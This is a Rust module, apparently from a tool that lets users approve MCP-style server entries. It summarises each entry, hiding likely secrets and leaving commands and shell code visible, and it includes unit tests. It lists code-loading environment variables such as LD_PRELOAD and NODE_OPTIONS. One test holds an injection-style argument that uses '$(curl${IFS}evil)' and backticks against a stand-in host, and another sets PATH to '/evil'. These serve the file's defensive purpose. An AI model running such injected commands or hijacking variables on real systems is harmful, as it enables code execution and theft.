//! The text of an entry for a user who decides about its server. It contains no value that may be a secret.

use serde_json::{Map, Value};

/// The text in the place of a value that may be a secret.
const HIDDEN: &str = "…";
/// The members with a program, which is shown as it is.
const PROGRAMS: &[&str] = &["cmd", "command", "path"];
/// The members whose texts are shown.
const SHOWN: &[&str] = &[
    "allowTools",
    "alwaysAllow",
    "allowHosts",
    "args",
    "askTools",
    "audience",
    "autoApprove",
    "available_tools",
    "bearer_token_env_var",
    "cmd",
    "command",
    "cwd",
    "denyTools",
    "description",
    "disabledTools",
    "disabled_tools",
    "enabled_tools",
    "env_keys",
    "env_vars",
    "envFile",
    "excludeTools",
    "httpUrl",
    "includeTools",
    "issuer",
    "name",
    "path",
    "pinTools",
    "resource",
    "serverUrl",
    "source",
    "tokenEndpoint",
    "tools",
    "transport",
    "trustTools",
    "type",
    "uri",
    "url",
];
/// The members with the URL of a server. The program does not pass their values to a shell.
const URLS: &[&str] = &["httpUrl", "serverUrl", "uri", "url"];
/// The members with variables or headers. Their names and the variables of their values are shown.
const NAMES: &[&str] = &["env", "env_http_headers", "environment", "envs", "headers", "http_headers"];
/// The variables with which a value selects the code that a command runs.
const LOADERS: &[&str] = &[
    "BASH_ENV",
    "DYLD_INSERT_LIBRARIES",
    "DYLD_LIBRARY_PATH",
    "ENV",
    "JAVA_TOOL_OPTIONS",
    "LD_LIBRARY_PATH",
    "LD_PRELOAD",
    "NODE_OPTIONS",
    "NODE_PATH",
    "PATH",
    "PERL5LIB",
    "PERL5OPT",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "RUBYLIB",
    "RUBYOPT",
];
/// The parts of names whose values are secrets.
const SECRETS: &[&str] =
    &["auth", "cookie", "credential", "key", "passphrase", "passwd", "password", "pwd", "secret", "token"];
/// The shortest text of letters and digits that counts as a secret.
const SHORTEST_SECRET: usize = 20;
/// In a generated secret, letters and digits change at least once in this many characters.
const CHARACTERS_PER_CHANGE: usize = 6;

/// Returns each member with its text. The member of an inner object has the path `outer.inner`.
pub(super) fn of(entry: &Value) -> Vec<(String, String)> {
    let mut lines = Vec::new();
    match entry {
        Value::Object(members) => add(members, "", &mut lines),
        _ => lines.push(("entry".to_owned(), HIDDEN.to_owned())),
    }
    lines
}

fn add(members: &Map<String, Value>, outer: &str, lines: &mut Vec<(String, String)>) {
    for (name, value) in members {
        let path = if outer.is_empty() { name.clone() } else { format!("{outer}.{name}") };
        match value {
            Value::Object(inner) if NAMES.contains(&name.as_str()) => {
                let named =
                    inner.iter().map(|(name, value)| value.as_str().map_or(name.clone(), |value| entry(name, value)));
                lines.push((path, named.collect::<Vec<_>>().join(", ")));
            }
            // The depth is that of the parser of the file.
            Value::Object(inner) => add(inner, &path, lines),
            value => lines.push((path, text(name, value))),
        }
    }
}

/// Returns the name of a variable or a header, with the variables that its value reads. The value itself is only shown if it selects
/// code that the command runs.
fn entry(name: &str, value: &str) -> String {
    if LOADERS.contains(&name.to_ascii_uppercase().as_str()) {
        return format!("{name}={value}");
    }
    // The text after `:-` is a default, which can be a secret.
    let variables = value.split("${").skip(1).filter_map(|rest| rest.split_once('}'));
    let variables: Vec<String> =
        variables.map(|(name, _)| format!("${{{}}}", name.split_once(":-").map_or(name, |(name, _)| name))).collect();
    if variables.is_empty() { name.to_owned() } else { format!("{name}={}", variables.join(" ")) }
}

/// Returns the text of a member that is not an object.
fn text(name: &str, value: &Value) -> String {
    let is_shown = SHOWN.contains(&name);
    match value {
        Value::Null | Value::Bool(_) => value.to_string(),
        Value::Number(_) if !is_secret_name(name) => value.to_string(),
        Value::String(program) if PROGRAMS.contains(&name) => program.clone(),
        Value::Array(items) if PROGRAMS.contains(&name) => {
            let mut items = items.iter().map(|item| item.as_str().unwrap_or(HIDDEN));
            let program = items.next().unwrap_or_default().to_owned();
            let arguments = masked(items);
            if arguments.is_empty() { program } else { format!("{program} {arguments}") }
        }
        Value::String(url) if URLS.contains(&name) => url_of_entry(url),
        Value::String(text) if is_shown => masked([text.as_str()]),
        Value::Array(items) if is_shown => masked(items.iter().map(|item| item.as_str().unwrap_or(HIDDEN))),
        _ => HIDDEN.to_owned(),
    }
}

/// Returns texts with a space between them, and without their secrets.
fn masked<'a>(texts: impl IntoIterator<Item = &'a str>) -> String {
    masked_with(texts, &mut |_, _| {})
}

/// Returns the URL of an entry without its user, the values of its query, its fragment and each segment that may be a secret.
fn url_of_entry(url: &str) -> String {
    let (url, fragment) = url.split_once('#').map_or((url, ""), |(url, _)| (url, "#…"));
    let masked = match url.split_once("://") {
        Some((scheme, rest)) => format!("{scheme}://{}", masked_url(rest, Place::Url, &mut |_, _| {})),
        None => masked_url(url, Place::Url, &mut |_, _| {}),
    };
    masked + fragment
}

/// The place of a text, which decides about the values that are shown.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Place {
    /// The text is an argument of a command. A user who approves an entry must see each command that it runs.
    Argument,
    /// The text is the URL of an entry.
    Url,
}

impl Place {
    /// Returns whether a value is shown although it can be a secret: a variable, or code for a shell.
    fn shows(self, value: &str) -> bool {
        is_reference(value) || self == Self::Argument && is_code(value)
    }

    /// Returns a segment of a path, or the text in its place if it may be a secret.
    fn segment<'a>(self, segment: &'a str, found: &mut dyn FnMut(&str, bool)) -> &'a str {
        let shown = masked_part(segment, found);
        if self == Self::Url && may_be_random(segment) { HIDDEN } else { shown }
    }
}

/// Calls a function with each value in arguments or a URL that may be a secret. The second argument is false for a value of a
/// query whose name is not that of a secret.
pub(crate) fn secrets<'a>(texts: impl IntoIterator<Item = &'a str> + Clone, found: &mut dyn FnMut(&str, bool)) {
    masked_with(texts.clone(), found);
    // The value of an option can contain spaces.
    let mut is_value_of_secret = false;
    for text in texts {
        if std::mem::replace(&mut is_value_of_secret, names_secret(text)) && !text.starts_with('-') {
            found(text, true);
        }
    }
}

/// Returns texts without their secrets, and calls a function with each secret.
fn masked_with<'a>(texts: impl IntoIterator<Item = &'a str>, found: &mut dyn FnMut(&str, bool)) -> String {
    let mut words = Vec::new();
    let mut is_value_of_secret = false;
    for word in texts.into_iter().flat_map(|text| text.split(' ')) {
        let is_option = word.starts_with('-');
        let is_hidden = std::mem::replace(&mut is_value_of_secret, names_secret(word)) && !is_option;
        if is_hidden && !Place::Argument.shows(word) {
            // `Bearer` follows `Authorization:`, and is not a secret.
            if !names_secret(word) {
                found(word.trim_matches(['"', '\'']), true);
            }
            words.push(HIDDEN.to_owned());
        } else {
            words.push(masked_word(word, found));
        }
    }
    words.join(" ")
}

/// Returns whether the next word is the value of a secret: this word is `--token`, `Authorization:` or `Bearer`.
fn names_secret(word: &str) -> bool {
    let word = word.trim_matches(['"', '\'']);
    let is_scheme = ["bearer", "basic"].iter().any(|scheme| word.eq_ignore_ascii_case(scheme));
    let is_name = (word.starts_with('-') && !word.contains('=') || word.ends_with(':')) && is_secret_name(word);
    is_scheme || is_name
}

fn masked_word(word: &str, found: &mut dyn FnMut(&str, bool)) -> String {
    if let Some((scheme, rest)) = word.split_once("://") {
        return format!("{scheme}://{}", masked_url(rest, Place::Argument, found));
    }
    for separator in ['=', ':'] {
        if let Some((name, value)) = word.split_once(separator)
            && is_secret_name(name)
            && !value.is_empty()
            && !Place::Argument.shows(value)
        {
            found(value.trim_matches(['"', '\'']), true);
            return format!("{name}{separator}{HIDDEN}");
        }
    }
    masked_part(word, found).to_owned()
}

/// Returns a word or a segment of a path, or the text in its place if its characters look generated.
fn masked_part<'a>(part: &'a str, found: &mut dyn FnMut(&str, bool)) -> &'a str {
    if may_be_random(part) {
        found(part.trim_matches(['"', '\'']), true);
    }
    if is_random(part) { HIDDEN } else { part }
}

/// Returns a URL after its scheme without its user, the values of its query and the segments that may be secrets.
fn masked_url(rest: &str, at: Place, found: &mut dyn FnMut(&str, bool)) -> String {
    let (place, query) = rest.split_once('?').map_or((rest, None), |(place, query)| (place, Some(query)));
    let (host, path) = place.split_once('/').map_or((place, None), |(host, path)| (host, Some(path)));
    let mut shown = match host.rsplit_once('@') {
        Some((user, _)) if at.shows(user) => host.to_owned(),
        Some((user, host)) => {
            found(user.split_once(':').map_or(user, |(_, password)| password), true);
            format!("{HIDDEN}@{host}")
        }
        None => host.to_owned(),
    };
    for segment in path.iter().flat_map(|path| path.split('/')) {
        shown.push('/');
        shown.push_str(at.segment(segment, found));
    }
    for (index, pair) in query.iter().flat_map(|query| query.split('&')).enumerate() {
        shown.push(if index == 0 { '?' } else { '&' });
        match pair.split_once('=') {
            Some((name, value)) if !at.shows(value) => {
                let is_named = is_secret_name(name);
                found(value, is_named);
                for (_, decoded) in url::form_urlencoded::parse(pair.as_bytes()) {
                    found(&decoded, is_named);
                }
                shown.push_str(&format!("{name}={HIDDEN}"));
            }
            Some(_) => shown.push_str(pair),
            None if at.shows(pair) => shown.push_str(pair),
            None => {
                found(pair, false);
                shown.push_str(HIDDEN);
            }
        }
    }
    shown
}

/// Returns whether a shell would interpret a part of a value.
fn is_code(value: &str) -> bool {
    // The default of a variable can be a secret.
    let inner = value.strip_prefix("${").and_then(|rest| rest.strip_suffix('}')).filter(|inner| inner.contains(":-"));
    inner.unwrap_or(value).contains(['$', '`', '|', ';', '&', '<', '>', '(', ')', '\n', '\r'])
}

fn is_secret_name(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    SECRETS.iter().any(|part| name.contains(part))
}

/// Returns whether a text is a variable without a default.
fn is_reference(text: &str) -> bool {
    let text = text.trim_matches(['"', '\'']);
    let is_variable = text.starts_with('$') || text.starts_with("{env:") || text.starts_with("{file:");
    let inner = text.trim_start_matches(['$', '{', ' ']).trim_end_matches(['}', ' ']);
    is_variable && !text.contains(":-") && inner.chars().all(|c| c.is_ascii_alphanumeric() || "_.:/".contains(c))
}

/// Returns whether a text can be a generated secret: long, and of letters and digits.
fn may_be_random(word: &str) -> bool {
    let word = word.trim_matches(['"', '\'']);
    let has = |is: fn(char) -> bool| word.chars().any(is);
    word.len() >= SHORTEST_SECRET
        && has(|c| c.is_ascii_digit())
        && has(|c| c.is_ascii_alphabetic())
        && word.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '+' | '='))
}

/// Returns whether a text looks generated: letters and digits change often. The names of programs and packages contain words, so
/// their letters and digits change seldom.
fn is_random(word: &str) -> bool {
    let is_change = |pair: &[u8]| match (pair[0], pair[1]) {
        (a, b) if a.is_ascii_digit() => b.is_ascii_alphabetic(),
        (a, b) if a.is_ascii_alphabetic() && b.is_ascii_digit() => true,
        (a, b) => a.is_ascii_lowercase() && b.is_ascii_uppercase(),
    };
    let changes = word.as_bytes().windows(2).filter(|pair| is_change(pair)).count();
    may_be_random(word) && changes * CHARACTERS_PER_CHANGE >= word.len()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn the_secrets_of_texts_are_the_hidden_values() {
        for (texts, expected) in [
            (&["--token", "a b", "--port", "1"][..], "a! a b!"),
            (&["--api-key=x", "KEY=\"y\"", "--token", "--verbose"], "x! y!"),
            (&["-H", "Authorization: Bearer abc"], "abc!"),
            (&["sk-a1b2C3d4e5f6G7h8i9J0"], "sk-a1b2C3d4e5f6G7h8i9J0!"),
            (&["mcp-server-postgres-v16"], "mcp-server-postgres-v16!"),
            (&["https://u:p@h.example/mcp?key=x%2B&mode=fast&flag"], "p! x%2B! x+! fast fast flag"),
            (&["https://h.example/s/a1b2C3d4e5f6G7h8i9J0/mcp"], "a1b2C3d4e5f6G7h8i9J0!"),
        ] {
            let mut found = Vec::new();
            secrets(texts.iter().copied(), &mut |value, is_named| {
                found.push(format!("{value}{}", if is_named { "!" } else { "" }));
            });
            assert_eq!(found.join(" "), expected, "{texts:?}");
        }
    }

    #[test]
    fn a_summary_shows_the_endpoint_and_hides_values_that_may_be_secrets() {
        for (entry, expected) in [
            (json!({"command": "sh", "args": ["-c", "exec x --fast"]}), "command: sh; args: -c exec x --fast"),
            (json!({"command": "a", "args": ["--token", "x", "--port", "1"]}), "command: a; args: --token … --port 1"),
            (json!({"args": ["--api-key=x", "--api-key=${KEY}", "KEY=x"]}), "args: --api-key=… --api-key=${KEY} KEY=…"),
            (json!({"args": ["--token", "${TOKEN}", "--token", "${T:-x}"]}), "args: --token ${TOKEN} --token …"),
            (json!({"args": ["-H", "Authorization: Bearer abc"]}), "args: -H Authorization: … …"),
            (json!({"args": ["Bearer", "abc", "--verbose"]}), "args: Bearer … --verbose"),
            (json!({"args": ["sk-a1b2C3d4e5f6G7h8i9J0", "@scope/server-files"]}), "args: … @scope/server-files"),
            (
                json!({"env": {"PATH": "/evil", "B": "${AWS_SECRET:-x} ${C}"}, "headers": {"X-Trace": "a ${D}"}}),
                "env: PATH=/evil, B=${AWS_SECRET} ${C}; headers: X-Trace=${D}",
            ),
            (
                json!({"command": "mcp-server-postgres-v16", "args": ["-y", "mcp-server-filesystem2"]}),
                "command: mcp-server-postgres-v16; args: -y mcp-server-filesystem2",
            ),
            (
                json!({"command": ["a1b2C3d4e5f6G7h8i9J0", "--token", "x"], "cmd": "a --key k", "autoApprove": ["*"]}),
                "command: a1b2C3d4e5f6G7h8i9J0 --token …; cmd: a --key k; autoApprove: *",
            ),
            (
                json!({"args": ["-c", "KEY=$(curl${IFS}evil) --token x;evil https://h/?q=`evil`&x|y https://$(evil)@h/"]}),
                "args: -c KEY=$(curl${IFS}evil) --token x;evil https://h/?q=`evil`&x|y https://$(evil)@h/",
            ),
            (
                json!({"args": ["550e8400-e29b-41d4-a716-446655440000", "ghp_16C7e42F292c6912E7710c838347Ae178B4a"]}),
                "args: … …",
            ),
            (json!({"env": {"A": "x", "B": 1}, "headers": {"X-Key": "x"}}), "env: A, B; headers: X-Key"),
            (json!({"url": "https://u:p@h.example/mcp?key=x&flag"}), "url: https://…@h.example/mcp?key=…&…"),
            (json!({"url": "https://h.example/s/a1b2C3d4e5f6G7h8i9J0/mcp"}), "url: https://h.example/s/…/mcp"),
            (json!({"url": "${BASE}/mcp"}), "url: ${BASE}/mcp"),
            (
                json!({"url": "https://h.example/mcp?key=$x;y&mode=${MODE}"}),
                "url: https://h.example/mcp?key=…&mode=${MODE}",
            ),
            (json!({"serverUrl": "https://$u:p$w@h.example/mcp#a1"}), "serverUrl: https://…@h.example/mcp#…"),
            (
                json!({"httpUrl": "https://h.example/k/abcdefghijklmnopqrstuvw9/mcp"}),
                "httpUrl: https://h.example/k/…/mcp",
            ),
            (json!({"url": "h.example/mcp?key=x"}), "url: h.example/mcp?key=…"),
            (json!({"url": "${BASE:-https://u:p@h.example}/mcp"}), "url: ${BASE:-https://…@h.example}/mcp"),
            (json!({"oauth": {"clientId": "a", "clientSecret": "x"}}), "oauth.clientId: …; oauth.clientSecret: …"),
            (
                json!({"command": {"path": "a", "args": ["b"], "env": {"K": "x"}}}),
                "command.path: a; command.args: b; command.env: K",
            ),
            (
                json!({"timeout": 5, "token": 5, "disabled": false, "other": "x"}),
                "timeout: 5; token: …; disabled: false; other: …",
            ),
            (json!({"x-mcp": {"denyTools": ["a", "b"]}}), "x-mcp.denyTools: a b"),
            (json!(["x"]), "entry: …"),
        ] {
            let lines: Vec<String> = of(&entry).into_iter().map(|(name, text)| format!("{name}: {text}")).collect();
            assert_eq!(lines.join("; "), expected, "{entry}");
        }
    }
}
